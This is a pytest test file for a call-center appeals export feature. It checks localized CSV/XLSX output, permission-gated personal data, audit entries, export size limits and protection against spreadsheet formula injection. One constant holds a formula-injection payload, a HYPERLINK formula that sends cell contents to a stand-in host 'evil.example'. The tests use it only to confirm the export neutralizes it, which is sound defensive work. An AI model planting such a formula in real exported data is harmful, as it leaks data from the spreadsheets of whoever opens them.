"""Appeals as a file: what is in it for whom, that it is audited, and that it is no trap."""

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from callcenter.register.exporting import guarded
from callcenter.storage.engine import unit_of_work
from callcenter.web.permissions import GRANTS, Permission, Role
from tests.web.browser import form_token, visible
from tests.web.conftest import CALLER, Call, Enter, open_call
from tests.web.test_record_api import STATEMENT, api, authorized, change
from tests.web.test_records import IDENTIFIER

assert api  # the fixture, which tests ask for by its name

TRAP = '=HYPERLINK("http://evil.example/?"&A1)'
CHILD = {
    "affected1.person_kind": "child",
    "affected1.name": "Тимур Оспанов",
    "affected2.name": "@Анна",
}
WHOLE = {"kind": "statement", "content": STATEMENT["content"] | CHILD | {"content": TRAP}}
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def of_csv(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def of_xlsx(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows; a formula or a link in it fails the test."""
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    assert sheet.find(f".//{SHEET}f") is None
    assert sheet.find(f".//{SHEET}hyperlink") is None
    rows = []
    for row in sheet.iter(f"{SHEET}row"):
        cells = {
            re.sub(r"\d", "", str(cell.get("r"))): "".join(cell.itertext())
            for cell in row.iter(f"{SHEET}c")
        }
        rows.append(cells)
    names = rows[0]
    return [{name: row.get(at, "") for at, name in names.items()} for row in rows[1:]]


async def take(client: httpx.AsyncClient, **asked: str) -> httpx.Response:
    client.headers["Accept-Language"] = "ru"
    return await client.get("/api/v1/search/export", params=asked)


@pytest.fixture
async def saved(api: httpx.AsyncClient, call: Call) -> str:
    assert (await change(api, call.number, 0, WHOLE)).status_code == 200
    return call.number


@asynccontextmanager
async def without_personal(enter: Enter) -> AsyncIterator[httpx.AsyncClient]:
    async with enter(Role.CONSULTANT) as client:
        assert Permission.EXPORT_PERSONAL not in GRANTS[Role.CONSULTANT]
        yield client


async def test_the_file_holds_what_was_found_in_the_language_of_whoever_takes_it(
    api: httpx.AsyncClient, saved: str
) -> None:
    asked = {"stage": "contact", "personal": "true"}
    as_csv, as_xlsx = await take(api, **asked), await take(api, format="xlsx", **asked)
    [row], [same] = of_csv(as_csv), of_xlsx(as_xlsx)
    assert row["Номер"] == same["Номер"] == saved
    assert row["Поступило"] == "2026-11-24 14:05:09"  # Asia/Almaty
    assert row["Вид"] == "Заявление"
    assert row["Заявитель: ИИН или БИН"] == IDENTIFIER
    assert same["Номер звонившего"] == CALLER
    affected = next(key for key in row if key.startswith("Пострадавш") and "мя" in key)
    assert row[affected] == "Тимур Оспанов | @Анна"
    # Nothing is a formula: CSV has an apostrophe before it, XLSX knows it for a text.
    assert row["Суть обращения"] == "'" + TRAP
    assert row["Номер звонившего"] == "'" + CALLER
    assert same["Суть обращения"] == TRAP
    assert re.fullmatch(
        r'attachment; filename="appeals-[\d-]+\.xlsx"', as_xlsx.headers["content-disposition"]
    )


async def test_without_the_permission_no_personal_data_are_taken(
    enter: Enter, saved: str, engine: AsyncEngine
) -> None:
    async with without_personal(enter) as client:
        refused = await take(client, stage="contact", personal="true")
        assert refused.status_code == 403
        for form in ("csv", "xlsx"):
            answer = await take(client, stage="contact", format=form)
            [row] = of_csv(answer) if form == "csv" else of_xlsx(answer)
            said = str(row)
            assert saved in said
            for personal in (IDENTIFIER, CALLER, "Сейтова", "Тимур", "Анна", "HYPERLINK"):
                assert personal not in said, personal
    async with unit_of_work(engine) as connection:
        query = "SELECT detail FROM audit_entry WHERE action = 'web:appeals:exported'"
        details = list((await connection.execute(text(query))).scalars())
    assert [each["format"] for each in details] == ["csv", "xlsx"]


async def test_who_took_what_is_audited_without_the_words_that_were_looked_for(
    api: httpx.AsyncClient, saved: str, engine: AsyncEngine
) -> None:
    await take(api, q="Сейтова", region="710000000", since="2026-11-01", personal="true")
    async with unit_of_work(engine) as connection:
        query = "SELECT who, detail FROM audit_entry WHERE action = 'web:appeals:exported'"
        [(who, detail)] = (await connection.execute(text(query))).all()
    assert who.startswith("user:head-")
    assert detail == {
        "words": 1,
        "region": "710000000",
        "since": "2026-11-01T00:00:00+05:00",
        "rows": 0,
        "personal": True,
        "format": "csv",
    }


async def test_more_than_fits_is_refused_before_anything_is_taken(
    app: FastAPI, api: httpx.AsyncClient, saved: str, engine: AsyncEngine
) -> None:
    await open_call(engine, "call-2", datetime(2026, 11, 24, tzinfo=UTC))
    asked = {"since": "2026-11-01"}
    app.state.site.settings.__dict__["export_limit"] = 2
    assert len(of_csv(await take(api, **asked))) == 2
    app.state.site.settings.__dict__["export_limit"] = 1
    refused = await take(api, **asked)
    assert (refused.status_code, "more than 1" in refused.json()["detail"]) == (400, True)
    assert (await take(api)).status_code == 400  # no question: not the whole register by a slip
    token = await form_token(api, "/appeals")
    page = await api.post(
        "/search/export", params=asked, data={"form_token": token, "format": "csv"}
    )
    assert (page.status_code, "больше 1" in visible(page.text)) == (400, True)


async def test_rows_come_whole_over_many_readings(
    api: httpx.AsyncClient, engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("callcenter.register.exporting.FOUND_AT_ONCE", 3)
    monkeypatch.setattr("callcenter.register.exporting.READ_AT_ONCE", 2)
    numbers = {
        (await open_call(engine, f"call-{n}", datetime(2026, 11, 24, 9, n, tzinfo=UTC)))[1]
        for n in range(7)
    }
    for rows in (
        of_csv(await take(api, since="2026-11-01")),
        of_xlsx(await take(api, since="2026-11-01", format="xlsx")),
    ):
        assert len(rows) == 7
        assert {row["Номер"] for row in rows} == numbers


async def test_the_page_offers_the_file_and_nothing_plain_is_left_on_the_disk(
    app: FastAPI, api: httpx.AsyncClient, enter: Enter, saved: str
) -> None:
    page = (await api.get("/search", params={"stage": "contact"})).text
    action = re.search(r'action="(/search/export\?[^"]+)"', page)
    assert action is not None
    assert 'name="personal"' in page
    sent = {"form_token": await form_token(api, "/appeals"), "format": "xlsx", "personal": "true"}
    taken = await api.post(action[1].replace("&amp;", "&"), data=sent)
    assert taken.status_code == 200
    assert len(of_xlsx(taken)) == 1
    assert list((app.state.site.settings.var / "exports").iterdir()) == []
    async with without_personal(enter) as client:
        other = (await client.get("/search", params={"stage": "contact"})).text
        assert 'name="format"' in other
        assert 'name="personal"' not in other
        await authorized(client)
        client.headers["X-Form-Token"] = (await client.get("/api/v1/session")).json()["form_token"]
        forced = await client.post(action[1].replace("&amp;", "&"), data=sent)
        assert forced.status_code == 403


@given(st.text(max_size=20))
def test_no_cell_is_taken_for_a_formula(cell: str) -> None:
    kept = guarded(cell)
    assert not kept.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert kept in (cell, f"'{cell}")
